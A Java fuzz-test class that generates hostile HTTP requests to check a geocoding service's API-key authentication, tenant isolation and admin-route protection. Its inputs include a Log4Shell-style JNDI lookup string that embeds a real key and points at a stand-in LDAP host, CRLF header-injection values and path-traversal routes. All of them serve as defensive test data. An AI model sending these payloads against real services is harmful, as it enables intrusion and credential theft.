package dev.georesolver.fuzz;

import dev.georesolver.fuzz.HostileRequests.Case;
import dev.georesolver.fuzz.HostileRequests.Sent;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.SplittableRandom;

/**
 * The authentication and tenant cases of the fuzz: every case of {@link HostileRequests} with a
 * key header of some kind added (a tenant's, an admin's, a rate-limited one's, a wrong one, a
 * malformed one, or none), and requests aimed at what only some keys may reach: the admin routes,
 * another tenant's feed, intents the tenant may not use, the compatible endpoints' own ways of
 * sending a key. Case {@code i} of seed {@code s} is always the same bytes.
 */
final class HostileAuth {

  private final long seed;
  private final HostileRequests requests;
  private final String valid;
  private final String limited;
  private final String admin;
  private final long budgetMs;

  /**
   * @param valid the key of a tenant that may not use intent {@code contain} and is not an admin
   * @param limited the key of a tenant with a small rate limit
   * @param admin an admin tenant's key
   */
  HostileAuth(long seed, HostileRequests requests, String valid, String limited, String admin, long budgetMs) {
    this.seed = seed;
    this.requests = requests;
    this.valid = valid;
    this.limited = limited;
    this.admin = admin;
    this.budgetMs = budgetMs;
  }

  /** Case {@code i}. */
  Case generate(long i) {
    SplittableRandom r = new SplittableRandom((seed ^ 0x5DEECE66DL) * 0x9E3779B97F4A7C15L + i);
    if (r.nextInt(100) < 30) {
      return aimed(i, r);
    }
    Case c = requests.generate(i);
    Sent sent = pickSent(r);
    String header = header(sent, r);
    int eol = indexOf(c.bytes(), "\r\n");
    if (header == null || eol < 0) {
      return new Case(c.index(), c.kind() + " / no key", c.bytes(), c.budgetMs(), c.complete(), Sent.NOTHING);
    }
    return new Case(c.index(), c.kind() + " / key " + sent.name().toLowerCase(), insert(c.bytes(), eol + 2, header), c.budgetMs(),
        c.complete(), sent);
  }

  private static Sent pickSent(SplittableRandom r) {
    int n = r.nextInt(100);
    return n < 45 ? Sent.VALID : n < 58 ? Sent.NOTHING : n < 73 ? Sent.WRONG : n < 85 ? Sent.MALFORMED : n < 95 ? Sent.LIMITED : Sent.ADMIN;
  }

  /** A header line (with its CRLF) presenting a key of this kind; null for none. */
  private String header(Sent sent, SplittableRandom r) {
    return switch (sent) {
      case NOTHING -> null;
      case VALID -> keyHeader(valid, r);
      case LIMITED -> keyHeader(limited, r);
      case ADMIN -> keyHeader(admin, r);
      case WRONG -> keyHeader(wrong(r), r);
      case MALFORMED -> malformed(r);
      case ADMIN_BASIC -> basic(admin, r);
      case UNMARKED -> keyHeader(admin, r);
      case AFAR -> null;
    };
  }

  private static String keyHeader(String key, SplittableRandom r) {
    return switch (r.nextInt(4)) {
      case 0 -> "X-Api-Key: " + key + "\r\n";
      case 1 -> "authorization: bearer " + key + "\r\n";
      default -> "Authorization: Bearer " + key + "\r\n";
    };
  }

  /** A key that no tenant has: a near miss of a real one, or something invented. */
  private String wrong(SplittableRandom r) {
    String base = r.nextBoolean() ? valid : admin;
    int at = r.nextInt(base.length());
    return switch (r.nextInt(7)) {
      case 0 -> base.substring(0, at) + (char) ('a' + (base.charAt(at) - 'a' + 1 + 26) % 26) + base.substring(at + 1);
      case 1 -> base.substring(1);
      case 2 -> base + "0";
      case 3 -> base.toUpperCase();
      case 4 -> Long.toHexString(r.nextLong());
      case 5 -> "x".repeat(1 + r.nextInt(6000));
      default -> base.substring(0, at);
    };
  }

  private String malformed(SplittableRandom r) {
    String[] lines = {
        "Authorization: Bearer\r\n",
        "Authorization: Bearer    \r\n",
        "Authorization: Basic " + Base64.getEncoder().encodeToString(("acme:" + valid).getBytes(StandardCharsets.UTF_8)) + "\r\n",
        "Authorization: " + valid + "\r\n",
        "Authorization: Bearer " + valid + " " + valid + "\r\n",
        "Authorization: Bearer \u00ff\u00fe" + valid + "\r\n",
        "Authorization: Bearer " + valid.substring(2) + "\u0001\r\n",
        "Authorization: Bearer wrong-key\r\nX-Api-Key: " + valid + "\r\n",
        "Authorization: Bearer wrong-key\r\nAuthorization: Bearer " + valid + "\r\n",
        "X-Api-Key:\r\n",
        "X-Api-Key: \t\r\n",
        "X-Api-Key: ${jndi:ldap://x/" + valid + "}\r\n",
        "Authorization: Bearer " + "k".repeat(7000) + "\r\n",
    };
    return lines[r.nextInt(lines.length)];
  }

  /** A request aimed at what only some keys may reach, or at the compatible endpoints' key parameters. */
  private Case aimed(long i, SplittableRandom r) {
    String[] adminPaths = {"/admin", "/admin/", "/admin/events", "/admin/tiers/hostile/force-open", "/admin/tiers/hostile/release",
        "/v1/reconcile", "/v1/reconcile/", "/v1/reconcile/items", "/manifest", "/v1/../admin/events", "/v1/./reconcile",
        "//admin/events", "/admin/%2e%2e/metrics", "/dashboard"};
    Sent sent = r.nextBoolean() ? Sent.VALID : pickSent(r);
    String header = header(sent, r);
    String h = header == null ? "" : header;
    return switch (r.nextInt(8)) {
      case 6, 7 -> adminSurface(i, r);
      case 0, 1 -> {
        String method = r.nextInt(3) == 0 ? "POST" : "GET";
        String path = adminPaths[r.nextInt(adminPaths.length)];
        yield request(i, "aimed: " + method + " admin route, key " + sent, method, path, h, sent);
      }
      case 2 -> request(i, "aimed: another tenant's feed, key " + sent, "GET",
          new String[] {"/v1/corrections", "/v1/audit", "/v1/batches"}[r.nextInt(3)] + "?tenant=" + (r.nextBoolean() ? "beta" : "root")
              + "&after=" + r.nextInt(), h, sent);
      case 3 -> request(i, "aimed: an intent the tenant may not use, key " + sent, "GET",
          "/v1/geocode?intent=contain&q=" + r.nextInt(100_000) + "+Main+Street%2C+Lyon%2C+France", h, sent);
      case 4 -> {
        Sent param = pickSent(r);
        String key = switch (param) {
          case VALID -> valid;
          case LIMITED -> limited;
          case ADMIN -> admin;
          case NOTHING -> null;
          case WRONG -> wrong(r);
          case MALFORMED -> new String[] {"", "%00", "%ZZ", valid + "%0D%0AX-Injected:+1", valid + "%00"}[r.nextInt(5)];
          case ADMIN_BASIC, UNMARKED, AFAR -> null;
        };
        String q = "/maps/api/geocode/json?address=" + r.nextInt(100_000) + "+Main+Street%2C+Lyon%2C+France" + (key == null ? ""
            : "&key=" + (param == Sent.MALFORMED ? key : URLEncoder.encode(key, StandardCharsets.UTF_8)));
        // With key= in the query no header is sent: the parameter alone decides.
        yield request(i, "aimed: Google key= " + param + ", header " + (key == null ? sent : "none"), "GET", q, key == null ? h : "",
            key == null ? sent : param);
      }
      default -> request(i, "aimed: Nominatim search, key " + sent, "GET",
          "/search?format=jsonv2&q=" + r.nextInt(100_000) + "+Main+Street%2C+Lyon%2C+France", h, sent);
    };
  }

  /** An admin key as HTTP Basic credentials (user name, or none, and the key as password; or the key as user name). */
  private static String basic(String key, SplittableRandom r) {
    String pair = switch (r.nextInt(3)) {
      case 0 -> "admin:" + key;
      case 1 -> ":" + key;
      default -> key + ":";
    };
    return "Authorization: Basic " + Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.UTF_8)) + "\r\n";
  }

  /**
   * The admin surface as a browser could reach it: commands with the admin's key as cached Basic
   * credentials, or without the header a page on another site cannot add; commands sent on
   * purpose; {@code /metrics} and {@code /health/ready} with every kind of key.
   */
  private Case adminSurface(long i, SplittableRandom r) {
    String command = COMMANDS[r.nextInt(COMMANDS.length)];
    return switch (r.nextInt(5)) {
      case 0 -> request(i, "admin surface: command with Basic admin credentials", "POST", command,
          basic(admin, r) + (r.nextBoolean() ? "X-Requested-By: x\r\n" : ""), Sent.ADMIN_BASIC);
      case 1 -> request(i, "admin surface: command with the admin key, unmarked", "POST", command,
          keyHeader(admin, r) + UNMARKED_TYPES[r.nextInt(UNMARKED_TYPES.length)], Sent.UNMARKED);
      case 2 -> request(i, "admin surface: command sent on purpose", "POST", command,
          keyHeader(admin, r) + (r.nextBoolean() ? "X-Requested-By: fuzz\r\n" : "Content-Type: application/json\r\n"), Sent.ADMIN);
      case 3 -> {
        Sent sent = r.nextInt(4) == 0 ? Sent.ADMIN_BASIC : pickSent(r);
        String h = header(sent, r);
        yield request(i, "admin surface: operator data, key " + sent, "GET", r.nextBoolean() ? "/metrics" : "/health/ready",
            h == null ? "" : h, sent);
      }
      default -> request(i, "admin surface: reading with Basic admin credentials", "GET",
          r.nextBoolean() ? "/manifest" : "/dashboard/", basic(admin, r), Sent.ADMIN_BASIC);
    };
  }

  /** Commands of the admin surface; the tier is the fuzz's stand-in provider. */
  static final String[] COMMANDS = {"/admin/reload", "/admin/tiers/hostile/force-closed", "/admin/tiers/hostile/release",
      "/admin/tiers/nope/force-open", "/admin//reload", "/admin/tiers/hostile/release?x=1"};

  /** Content types a page on another site may send without asking first, or none. */
  static final String[] UNMARKED_TYPES = {"", "Content-Type: text/plain\r\n", "Content-Type: application/x-www-form-urlencoded\r\n",
      "Content-Type: multipart/form-data; boundary=x\r\n", "Content-Type: text/plain; application/json\r\n",
      "X-Requested-By:\r\n", "X-Requested-By: \t\r\n"};

  private Case request(long i, String kind, String method, String target, String headers, Sent sent) {
    String head = method + " " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers;
    byte[] bytes = method.equals("POST")
        ? (head + "Content-Length: 0\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1)
        : (head + "\r\n").getBytes(StandardCharsets.ISO_8859_1);
    return new Case(i, kind, bytes, budgetMs, true, sent);
  }

  private static int indexOf(byte[] b, String s) {
    byte[] n = s.getBytes(StandardCharsets.ISO_8859_1);
    outer:
    for (int i = 0; i + n.length <= b.length; i++) {
      for (int k = 0; k < n.length; k++) {
        if (b[i + k] != n[k]) {
          continue outer;
        }
      }
      return i;
    }
    return -1;
  }

  private static byte[] insert(byte[] b, int at, String text) {
    byte[] t = text.getBytes(StandardCharsets.ISO_8859_1);
    byte[] out = new byte[b.length + t.length];
    System.arraycopy(b, 0, out, 0, at);
    System.arraycopy(t, 0, out, at, t.length);
    System.arraycopy(b, at, out, at + t.length, b.length - at);
    return out;
  }
}
